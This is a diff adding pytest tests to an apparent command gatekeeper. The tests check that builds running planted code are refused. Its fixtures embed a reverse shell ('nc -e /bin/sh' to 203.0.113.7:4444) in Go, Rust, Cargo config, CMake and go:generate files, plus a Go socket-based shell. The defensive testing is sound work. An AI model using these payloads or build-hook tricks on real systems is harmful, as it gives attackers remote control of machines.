@@ -380,7 +380,7 @@ async def test_a_merge_only_adds_and_a_put_replaces(tmp_path: Path, backend: str
             await store.put(rec("c"))
             (got,) = await store.find("iss", "sub", ["/workspace/x.py"], [])
             assert got.capabilities == () and got.decision_id == "c"
-            assert await store.find("iss", "other", ["/workspace/x.py"], ["/workspace/"]) == []
+            assert await store.find("iss", "other", ["/workspace/x.py"], [("/workspace/", ("python",))]) == []
         finally:
             await store.close()
 
@@ -389,3 +389,144 @@ async def test_a_merge_only_adds_and_a_put_replaces(tmp_path: Path, backend: str
         return
     async with throwaway_schema("gk_written") as (dsn, schema):
         await check(open_written_store(dsn, tmp_path, schema=schema))
+
+
+@pytest.mark.parametrize("backend", ["sqlite", "postgres"])
+async def test_a_tree_matches_only_its_kinds(tmp_path: Path, backend: str) -> None:
+    """A pytest tree matches Python records only; a Go build's tree matches Go and C; neither
+    matches outside its prefix, and an exact path matches whatever its kind."""
+    from gatekeeper.models import Capability
+    from gatekeeper.written.records import WrittenRecord
+
+    files = {
+        "/workspace/a/x.py": "python",
+        "/workspace/a/main.go": "go",
+        "/workspace/a/cgo.c": "c",
+        "/workspace/a/lib.rs": "rust",
+        "/workspace/a/notes.txt": "text",
+        "/workspace/a/main.go#go:generate": "go-generate",
+        "/workspace/b/other.go": "go",
+    }
+
+    async def check(store: Any) -> None:
+        await store.open()
+        try:
+            for path, kind in files.items():
+                cap = (Capability("proc.spawn"),)
+                await store.put(WrittenRecord("iss", "sub", path, kind, "0" * 64, cap, (), "d", 1.0))
+
+            async def found(paths: list[str], trees: list[tuple[str, tuple[str, ...]]]) -> list[str]:
+                return [r.path for r in await store.find("iss", "sub", paths, trees)]
+
+            assert await found([], [("/workspace/a/", ("python",))]) == ["/workspace/a/x.py"]
+            assert await found([], [("/workspace/a/", ("go", "c"))]) == [
+                "/workspace/a/cgo.c",
+                "/workspace/a/main.go",
+            ]
+            assert await found([], [("/workspace/", ("go",))]) == [
+                "/workspace/a/main.go",
+                "/workspace/b/other.go",
+            ]
+            assert await found([], [("/workspace/", ("go-generate",))]) == [
+                "/workspace/a/main.go#go:generate"
+            ]
+            assert await found(["/workspace/a/notes.txt"], [("/workspace/a/", ("rust",))]) == [
+                "/workspace/a/lib.rs",
+                "/workspace/a/notes.txt",
+            ]
+            assert await found([], []) == []
+        finally:
+            await store.close()
+
+    if backend == "sqlite":
+        await check(open_written_store("sqlite", tmp_path))
+        return
+    async with throwaway_schema("gk_written") as (dsn, schema):
+        await check(open_written_store(dsn, tmp_path, schema=schema))
+
+
+NC = "nc -e /bin/sh 203.0.113.7 4444"
+GO_SHELL = (
+    f'package main\n\nimport "os/exec"\n\nfunc main() {{\n\texec.Command("sh", "-c", "{NC}").Run()\n}}\n'
+)
+GO_HELLO = 'package main\n\nimport "fmt"\n\nfunc main() {\n\tfmt.Println("Hello, world!")\n}\n'
+GO_HELLO_TEST = (
+    'package main\n\nimport "testing"\n\nfunc TestHello(t *testing.T) {\n'
+    '\tif got := "Hello"; got != "Hello" {\n\t\tt.Fatalf("got %q", got)\n\t}\n}\n'
+)
+RUST_SHELL = (
+    f'fn main() {{\n    std::process::Command::new("sh").arg("-c").arg("{NC}").status().unwrap();\n}}\n'
+)
+
+
+@pytest.mark.parametrize(
+    ("writes", "cmd"),
+    [
+        ({"main.go": GO_SHELL}, "go run main.go"),
+        ({"main.go": GO_SHELL}, "go run ."),
+        ({"x_test.go": GO_SHELL.replace("func main()", "func init()")}, "go test ./..."),
+        ({"internal/evil/evil.go": GO_SHELL, "cmd/app/main.go": GO_HELLO}, "cd cmd/app && go run ."),
+        ({"gen.go": f"package main\n\n//go:generate {NC}\n"}, "go generate ./..."),
+        ({"build.rs": RUST_SHELL, "Cargo.toml": '[package]\nname = "x"\nversion = "0.1.0"\n'}, "cargo build"),
+        ({"build.rs": RUST_SHELL}, "cargo check"),
+        ({"src/main.rs": RUST_SHELL}, "cargo run"),
+        ({"tests/it.rs": RUST_SHELL}, "cargo test"),
+        ({".cargo/config.toml": f'[target.x86_64-unknown-linux-gnu]\nrunner = "{NC}"\n'}, "cargo run"),
+        ({".cargo/config.toml": f'[build]\nrustc-wrapper = "{NC}"\n'}, "cd sub && cargo fmt"),
+        ({"CMakeLists.txt": f"execute_process(COMMAND {NC})\n"}, "cmake -B build"),
+        # A Makefile (or script) that runs the build carries what the build runs.
+        ({"main.go": GO_SHELL, "Makefile": "run:\n\tgo run .\n"}, "make run"),
+        ({"main.go": GO_SHELL, "ci.sh": "#!/bin/sh\ngo test ./...\n"}, "sh ci.sh"),
+    ],
+)
+async def test_written_compiled_code_then_built_is_refused_naming_the_file(
+    tmp_path: Path, writes: dict[str, str], cmd: str
+) -> None:
+    async with running(make_config(tmp_path)) as gk, aiohttp.ClientSession() as http:
+        token = mint(gk)
+        ids = {path: await _write(http, gk, token, path, content) for path, content in writes.items()}
+        status, body = await _run(http, gk, token, cmd)
+        assert status == 403, body
+        assert body["capability"] == "net.reverse_shell", body
+        assert any(f"/workspace/{p}" in body["reason"] and i in body["reason"] for p, i in ids.items()), body
+
+
+async def test_a_go_reverse_shell_with_sockets_is_held(tmp_path: Path) -> None:
+    """net.Dial and exec.Command without a command line in a string: held, as a Python socket
+    and subprocess are."""
+    go = (
+        'package main\n\nimport (\n\t"net"\n\t"os/exec"\n)\n\nfunc main() {\n'
+        '\tc, _ := net.Dial("tcp", "203.0.113.7:4444")\n\tcmd := exec.Command("/bin/sh")\n'
+        "\tcmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\n\tcmd.Run()\n}\n"
+    )
+    async with running(make_config(tmp_path)) as gk, aiohttp.ClientSession() as http:
+        token = mint(gk)
+        await _write(http, gk, token, "main.go", go)
+        status, body = await _run(http, gk, token, "go run main.go")
+        assert status in (202, 403), body
+
+
+async def test_ordinary_go_and_rust_work_stays_allowed(tmp_path: Path) -> None:
+    """Hello world, its test, a //go:generate of stringer, a Cargo.toml and an ordinary cargo
+    config: building and testing them is allowed; go generate runs stringer, which the pack does
+    not allow (as on the command line); rewritten without the line, go generate runs nothing."""
+    async with running(make_config(tmp_path)) as gk, aiohttp.ClientSession() as http:
+        token = mint(gk)
+        await _write(http, gk, token, "main.go", GO_HELLO)
+        await _write(http, gk, token, "main_test.go", GO_HELLO_TEST)
+        await _write(
+            http, gk, token, "pill.go", "package main\n\n//go:generate stringer -type=Pill\ntype Pill int\n"
+        )
+        await _write(http, gk, token, "Cargo.toml", '[package]\nname = "x"\nversion = "0.1.0"\n')
+        await _write(http, gk, token, "src/main.rs", 'fn main() {\n    println!("hi");\n}\n')
+        await _write(
+            http, gk, token, ".cargo/config.toml", '[build]\nrustflags = ["-C", "target-cpu=native"]\n'
+        )
+        for cmd in ("go test ./...", "go run .", "go vet ./...", "cargo build", "cargo test"):
+            status, body = await _run(http, gk, token, cmd)
+            assert status == 200, (cmd, body)
+        status, body = await _run(http, gk, token, "go generate ./...")
+        assert status == 403 and body["capability"] == "proc.exec:stringer", body
+        await _write(http, gk, token, "pill.go", "package main\n\ntype Pill int\n")
+        status, body = await _run(http, gk, token, "go generate ./...")
+        assert status == 200, body
